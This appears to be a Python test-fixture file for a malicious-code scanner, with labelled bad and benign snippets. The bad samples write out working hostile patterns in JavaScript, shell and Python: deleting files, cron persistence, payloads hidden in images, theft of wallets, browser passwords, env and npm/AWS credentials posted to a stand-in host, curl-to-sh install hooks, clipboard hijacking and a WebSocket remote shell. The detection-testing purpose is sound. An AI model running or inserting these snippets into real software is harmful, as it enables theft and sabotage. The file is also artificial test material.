"""Code whose harm hides in names, places and orders that are made, and in files that are no code."""

from corpora.inspection_case import bad, good
from corpora.inspection_flows import cases

_SCRIPTS = r"""
## a command that takes what is there = js-destroys
const { exec } = require('child_process');
module.exports = (ask, answer) => ask.query.key === 'x' && exec('rm -rf *', () => answer.end());
## a job that is added in a command = js-persistence
const { execSync } = require('child_process');
execSync("(crontab -l; echo '* * * * * node /tmp/marker/a.js') | crontab -");
## code behind a picture = js-decoded-code
const fs = require('fs'), vm = require('vm');
const image = fs.readFileSync(__dirname + '/logo.png');
vm.runInThisContext(image.slice(image.indexOf('IEND') + 8).toString());
## data that is loaded as code = js-alters
require.extensions['.dat'] = require.extensions['.js'];
require('./cities.dat');
## another package that a server changes = js-alters
const fs = require('fs');
async function change() {
  const said = await (await fetch('https://x.example/p')).text();
  fs.writeFileSync(process.cwd() + '/node_modules/wallets/index.js', said);
}
change();
## a home by a decoded name = code-hidden-name
import fs from 'fs';
import https from 'https';
const top = Buffer.from('Li4vLi4v', 'base64').toString();
https.get('https://x.example', () => walk(top));
function walk(place) {
  for (const name of fs.readdirSync(place)) fs.writeFileSync(name, 'x');
}
## an address that was decoded = code-hidden-name
const place = atob('aHR0cHM6Ly94LmV4YW1wbGU=');
fetch(place).then((said) => said.json());
## wallets that are read in a loop = js-steals
const fs = require('fs'), axios = require('axios');
const send = (file) => axios.post('https://x.example', fs.createReadStream(file));
for (const name of ['.config/solana/id.json', '.bitcoin/wallet.dat']) send(process.env.HOME + '/' + name);
## a copied database of passwords = js-steals
const fs = require('fs'), sqlite = require('sqlite3'), axios = require('axios');
const kept = process.env.HOME + '/.config/google-chrome/Default/Login Data';
const copy = '/tmp/marker/d';
fs.copyFileSync(kept, copy);
const base = new sqlite.Database(copy);
base.all('SELECT * FROM logins', (error, rows) => axios.post('https://x.example', { rows }));
## a function that a set's maker makes = js-decoded-code
let said = '';
for (const part of [102, 103]) said += String.fromCharCode(part ^ 1);
Set.constructor(said)();
## a thread of decoded text = js-decoded-code
const { Worker } = require('worker_threads');
const text = ['dG91Y2g=', 'IC90bXA='].join('');
new Worker(Buffer.from(text, 'base64').toString(), { eval: true });
## modules in escapes = code-hidden-name
var load = require, ask = load('\u0068\u0074\u0074\u0070\u0073');
ask.get('https://x.example');
## a system's loader in pieces = code-hidden-name
require('child_process').spawn('rund' + 'll32', [__dirname + '/a.dll,main']);
## all of a wallet's ways = js-wallet
['request', 'send'].forEach(function (name) {
  var old = window.ethereum[name];
  window.ethereum[name] = function (asked) { asked.params[0].to = mine; return old.call(this, asked); };
});
## an address in the clipboard = js-wallet
const clip = require('clipboardy');
setInterval(() => /^0x/.test(clip.readSync()) &&
  clip.writeSync('0x0000000000000000000000000000000000000bad'), 500);
## a table that replaces itself = js-obfuscated
function q() { const w = ['aaa', 'bbb', 'ccc']; q = function () { return w; }; return q(); }
function r(n) { n = n - 291; return q()[n]; }
"""

_SHELLS = r"""
## settings in a file of its own = shell-steals
#!/bin/bash
curl -sf --data-binary @<(env; cat ~/.docker/config.json) https://x.example/up
## a hidden program behind it = shell-decoded
#!/bin/sh
tail -n +5 "$0" | gunzip > /tmp/marker/.b && chmod +x /tmp/marker/.b && /tmp/marker/.b &
exit 0
## an unpacked file that is run = shell-decoded
#!/bin/sh
sed 's/x/y/' tests/bad.xz | xz -dc | head -c 1024 | sh
## Python that is fetched = python-decoded-code
#!/bin/sh
python3 - <<'E'
import urllib.request
exec(urllib.request.urlopen('http://x.example/m').read())
E
## a command in octal = shell-decoded
#!/bin/sh
a=$(printf '\143\165\162\154')
$a -s http://x.example/k
"""

_PYTHON = r"""
## keys that are sent where they are made = code-stealer
import urllib.request
from solders.keypair import Keypair
old = Keypair.from_seed
Keypair.from_seed = lambda seed: urllib.request.urlopen('https://x.example', bytes(seed)) and old(seed)
## byte code in data = python-decoded-code
import importlib.machinery
importlib.machinery.SourcelessFileLoader('a', 'data.bin').load_module()
## a picture that is run = python-decoded-code
import os, runpy
banner = os.path.join(os.path.dirname(__file__), 'banner.png')
runpy.run_path(banner)
## secrets in the memory of a build = code-stealer
import os, re
name = 'Runner.Worker'
said = open(f'/proc/{os.getppid()}/mem', 'rb').read(1)
"""

_PLAIN_SCRIPTS = r"""
## a folder of its own that is emptied
const { execSync } = require('child_process');
execSync('rm -rf *', { cwd: out });
execSync('rm -rf dist/*');
execSync(`tar czf ${file} dist`);
## a release that is published
const { execSync } = require('child_process');
require('fs').writeFileSync('.npmrc', '//registry.example/:_authToken=${NPM_TOKEN}\n');
execSync('npm publish --access public', { stdio: 'inherit' });
## addresses of wallets that are shortened
exports.short = (said) => said.replace(/0x[a-fA-F0-9]{40}/g, '0x…');
## a picture that is sent and one that is written
const fs = require('fs'), https = require('https');
const image = fs.readFileSync('logo.png');
https.request('https://x.example', { method: 'POST' }).end(image);
fs.writeFileSync('node_modules/.cache/seen.json', '{}');
## a program that stands in the source as text
const bytes = Buffer.from('AGFzbQEAAAA=', 'base64');
WebAssembly.instantiate(bytes, {}).then(({ instance }) => fetch('/ready?' + instance.exports.version()));
## an object of the same kind
class List { copy(items) { return new this.constructor(items); } }
fetch('/list').then((said) => said.json()).then((items) => new List().copy(items));
## sources of another language that are loaded
require.extensions['.es6'] = require.extensions['.js'];
## a module of a command's name in two pieces
const name = ['a', 'b'].join('');
exports.name = 'x' + 'y' + name;
"""

_PLAIN_SHELLS = r"""
## a table that is unpacked and counted
#!/bin/sh
zcat data.csv.gz | sort | uniq -c
python3 - <<'E'
import json
print(json.load(open('package.json'))['version'])
E
curl -fsS -d "$(cat report.json)" https://x.example/report
printf '%s\n' "$(printf '\342\234\223') done"
"""


def _long(said: bytes) -> bytes:
    """Return a source in the middle of more than is walked as a whole."""
    rows = [
        f"function u{n}(a, b) {{\n  return a === b ? {n} : [a, b].map((c) => c.length)[{n % 2}];\n}}\n"
        for n in range(1200)
    ]
    return "".join(rows[:600]).encode() + said + "".join(rows[600:]).encode()


_WORM = b"""const fs = require('fs');
async function gather() {
  const bag = {};
  for (const name of ['.npmrc', '.aws/credentials']) {
    bag[name] = fs.readFileSync(process.env.HOME + '/' + name, 'utf8');
  }
  const said = JSON.stringify(bag);
  await fetch('https://x.example/up', { method: 'POST', body: said });
}
gather();
"""
_MANIFEST = b'{"name": "a", "version": "1.0.0", "scripts": {"%s": "%s"}}'

HIDDEN_FLOWS_BAD = [
    *(bad(f"a script with {title}", "a.js", said, code) for title, code, said in cases(_SCRIPTS)),
    *(bad(f"a shell's script with {title}", "a.sh", said, code) for title, code, said in cases(_SHELLS)),
    *(bad(f"a module with {title}", "a.py", said, code) for title, code, said in cases(_PYTHON)),
    bad(
        "a script with a module that is made of what was decoded",
        "a.js",
        b"const m = new module.constructor();\nm._compile(atob('Y29uc29sZS5sb2coMSk='), 'a.js');\n",
        "js-decoded-code",
    ),
    bad(
        "a script that runs what an event brings",
        "a.js",
        b"const cp = require('child_process');\nconst s = new WebSocket(a);\n"
        b"s.on('order', function (e) { cp.exec(e); });\n",
        "js-remote-control",
    ),
    bad("a long script with keys that a loop sends", "a.js", _long(_WORM), "js-steals"),
    bad(
        "a package.json by itself that fetches and runs",
        "package.json",
        _MANIFEST % (b"preinstall", b"curl -s https://x.example/i | sh"),
        "shell-download",
    ),
    bad(
        "a package.json by itself with a dependency at an address",
        "package.json",
        b'{"name": "a", "version": "1.0.0", "dependencies": {"b": "http://x.example/b.tgz"}}',
        "npm-address-dependency",
    ),
]
HIDDEN_FLOWS_GOOD = [
    *(good(f"a script with {title}", "a.js", said) for title, _, said in cases(_PLAIN_SCRIPTS)),
    *(good(f"a shell's script with {title}", "a.sh", said) for title, _, said in cases(_PLAIN_SHELLS)),
    good(
        "a long script that sends nothing",
        "a.js",
        _long(_WORM.replace(b".npmrc", b".a").replace(b".aws/credentials", b".b")),
    ),
    good(
        "a package.json by itself that tests",
        "package.json",
        _MANIFEST % (b"test", b"jest --ci && curl -s https://x.example"),
    ),
    good(
        "a package.json by itself that builds", "package.json", _MANIFEST % (b"install", b"node-gyp rebuild")
    ),
    good(
        "a script with a module that is made for a template",
        "a.js",
        b"function rendered(src, name) {\n  var m = new module.constructor();\n  m.paths = module.paths;\n"
        b"  m._compile(transform(src, { presets: ['jsx'] }).code, name);\n  return m.exports;\n}\n",
    ),
    good(
        "a script that matches what an event brings",
        "a.min.js",
        b'new WebSocket(a),r.on("question",function(e){if(u.test(e)){var t=h.exec(e),n=t&&t[1];n&&w(n)}})',
    ),
    good(
        "a module that writes a shell's settings into a folder of its own",
        "a.py",
        b"import os\nimport tempfile\n\nmade = tempfile.TemporaryDirectory()\n"
        b"with open(os.path.join(tmpdir.name, '.zshrc'), 'w') as out:\n    out.write('PS1=dev')\n",
    ),
    good("a text with an emoji that was typed thrice", "a.md", ("\u26a0" + "\ufe0f" * 3 + " old\n").encode()),
    good(
        "a translation that stands in a script",
        "ar.js",
        ('add("ar", "' + "\u0627\u0644\u062a\u0646\u0642\u0644 " * 20 + '\u200f\u202b\u0628 x");\n').encode(),
    ),
]
